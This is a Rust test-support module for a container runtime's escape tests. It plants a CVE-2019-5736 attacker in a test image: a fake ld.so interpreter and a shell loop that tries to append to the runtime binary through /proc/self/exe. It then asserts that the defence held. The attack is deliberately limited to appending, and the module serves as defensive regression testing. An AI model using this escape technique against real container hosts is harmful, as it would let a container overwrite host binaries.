//! The CVE-2019-5736 attacker the escape tests plant in an image (runtime and CRI suites):
//! a program interpreter of its own at `/lib64/ld-linux-x86-64.so.2`
//! (`tests/fixtures/fake-ld-so.c`, compiled here once) that grabs `/proc/self/exe` as fd 3
//! and runs `/evil/attack`, a script that records what fd 3 is and then keeps trying to
//! append to it until told to stop. `/evil/sh` → `/proc/self/exe` is how a container names
//! the runtime as its program.
//!
//! In the container's /tmp: `exe-link` (what fd 3 was), `tries` (attempts so far), `result`
//! (`overwritten` for a write that went through, `done` when the loop ended); `bg` makes the
//! script leave the loop in the background and exit (an exec that returns at once); `stop`
//! ends the loop (in the foreground the process then sleeps, so the container stays up to be
//! read). Only appending is tried, so even a failed defence leaves a binary that runs.

use crate::registry::Entry;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

pub const ATTACK: &str = r#"readlink /proc/self/fd/3 > /tmp/exe-link
LOOP='n=0; while [ ! -e /tmp/stop ] && [ $n -lt 1200 ]; do n=$((n+1)); echo $n > /tmp/tries;
  if (echo PWNED-BY-CONTAINER >> /proc/self/fd/3) 2>/dev/null; then echo overwritten >> /tmp/result; fi;
  sleep 0.05; done; echo done >> /tmp/result'
if [ -e /tmp/bg ]; then /bin/busybox sh -c "$LOOP" & exit 0; fi
exec /bin/busybox sh -c "$LOOP; exec /bin/busybox sleep 1000"
"#;

/// The attacker's `ld.so`, built once per test process with the system's C compiler.
pub fn fake_ld_so() -> Vec<u8> {
    static BIN: OnceLock<Vec<u8>> = OnceLock::new();
    BIN.get_or_init(|| {
        let src = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("fixtures/fake-ld-so.c");
        let out = std::env::temp_dir().join(format!("bt-fake-ld-so-{}", std::process::id()));
        let o = std::process::Command::new("cc")
            .args(["-static", "-nostdlib", "-O2", "-fno-stack-protector", "-o"])
            .arg(&out)
            .arg(&src)
            .output()
            .expect("cc (build-essential) builds the attacker's ld.so");
        let bytes = std::fs::read(&out);
        let _ = std::fs::remove_file(&out);
        assert!(o.status.success(), "cc: {}", String::from_utf8_lossy(&o.stderr));
        bytes.unwrap()
    })
    .clone()
}

/// Plant the attacker in a rootfs on disk.
pub fn arm(rootfs: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir_all(rootfs.join("lib64")).unwrap();
    let ld = rootfs.join("lib64/ld-linux-x86-64.so.2");
    std::fs::write(&ld, fake_ld_so()).unwrap();
    std::fs::set_permissions(&ld, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::create_dir_all(rootfs.join("evil")).unwrap();
    std::fs::write(rootfs.join("evil/attack"), ATTACK).unwrap();
    std::os::unix::fs::symlink("/proc/self/exe", rootfs.join("evil/sh")).unwrap();
}

/// The attacker as an image layer.
pub fn layer() -> Vec<u8> {
    crate::registry::layer_tar(&[
        Entry::Dir("lib64"),
        Entry::Mode("lib64/ld-linux-x86-64.so.2", fake_ld_so(), 0o755),
        Entry::Dir("evil"),
        Entry::File("evil/attack", ATTACK.as_bytes().to_vec()),
        Entry::Symlink("evil/sh", "/proc/self/exe"),
    ])
}

pub fn sha256_of(p: &Path) -> String {
    let o = std::process::Command::new("sha256sum").arg(p).output().unwrap();
    String::from_utf8_lossy(&o.stdout).split_whitespace().next().unwrap_or("").to_string()
}

/// The files the attacker writes, read through `read` (a host path or an exec).
pub struct Report {
    pub exe_link: String,
    pub result: String,
}

/// Poll `count` (the attacker's `tries`) until it grew by `more` (bounded by 60 s).
pub fn wait_tries(mut count: impl FnMut() -> u32, more: u32) {
    let (start, deadline) = (count(), Instant::now() + Duration::from_secs(60));
    loop {
        let now = count();
        if now >= start + more {
            return;
        }
        assert!(Instant::now() < deadline, "the attacker stopped trying (tries: {now})");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The verdict: the attacker held an fd on the runtime's executable, and none of
/// `binaries` (path, sha256 before) changed or was that fd.
pub fn judge(what: &str, r: &Report, binaries: &[(PathBuf, String)]) {
    let link = r.exe_link.trim();
    assert!(!link.is_empty(), "{what}: the attacker never ran as the runtime's binary (no fd on /proc/self/exe)");
    assert!(r.result.contains("done"), "{what}: the attacker's loop did not finish: {:?}", r.result);
    assert!(!r.result.contains("overwritten"), "{what}: a write through /proc/self/exe went through (fd 3: {link})");
    for (p, before) in binaries {
        assert_eq!(&sha256_of(p), before, "{what}: {} changed (fd 3: {link})", p.display());
        let host = std::fs::canonicalize(p).unwrap();
        assert_ne!(link, host.to_string_lossy(), "{what}: the container held the host's binary itself");
    }
}

/// (path, sha256) of each binary, taken before an attack.
pub fn fingerprints(paths: &[PathBuf]) -> Vec<(PathBuf, String)> {
    paths.iter().map(|p| (p.clone(), sha256_of(p))).collect()
}
